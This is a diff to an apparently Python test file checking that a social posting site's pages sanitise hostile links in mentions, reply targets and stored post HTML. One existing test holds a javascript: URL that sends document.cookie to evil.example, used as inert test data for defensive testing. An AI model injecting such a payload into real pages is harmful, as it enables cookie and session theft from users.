@@ -45,7 +45,9 @@ async def test_a_mentioned_actor_with_a_script_url_is_no_live_link(client, servi
     assert any(t["href"] == mal.uri for t in post.tags)  # the mention was resolved, with its hostile url
     html = await post_page(client, post.id)
     assert_only_web_links(html)
-    assert '<a class="u-url mention" rel="nofollow noopener noreferrer">@<span>mal</span></a>' in html
+    # The script `url` was never stored, so the mention links to the actor's id instead.
+    assert ('<a href="https://evil.example/users/mal" class="u-url mention" rel="nofollow noopener noreferrer">'
+            '@<span>mal</span></a>') in html
 
 
 async def test_the_author_of_a_replied_to_post_with_a_data_url_is_no_live_link(client, services, network, make_artist):
@@ -73,6 +75,21 @@ async def test_a_stored_reply_target_that_is_not_http_is_shown_as_text(client, s
     html = await post_page(client, post.id)
     assert_only_web_links(html.replace("javascript:fetch(&#39;https://evil.example/?c=&#39;+document.cookie)", ""))
     assert "<code>javascript:fetch(&#39;https://evil.example/?c=&#39;+document.cookie)</code>" in html
+
+
+async def test_stored_post_html_with_a_script_link_is_cleaned_when_shown(client, services, make_artist):
+    """Content stored before mentions were checked (or by an import) is cleaned again on the page."""
+    await make_artist("ana")
+    post = await publish(services, text="old post")
+    async with services.sessions() as session:
+        row = await session.get(Post, post.id)
+        row.content = f'<p>see <a href="{HOSTILE_PAGE}" class="u-url mention">@<span>mal</span></a></p>'
+        session.add(row)
+        await session.commit()
+    services.cache.clear()
+    html = await post_page(client, post.id)
+    assert_only_web_links(html)
+    assert "@<span>mal</span></a>" in html  # the text stays; the script link does not
 
 
 def test_safe_url_keeps_web_urls_and_refuses_the_rest():
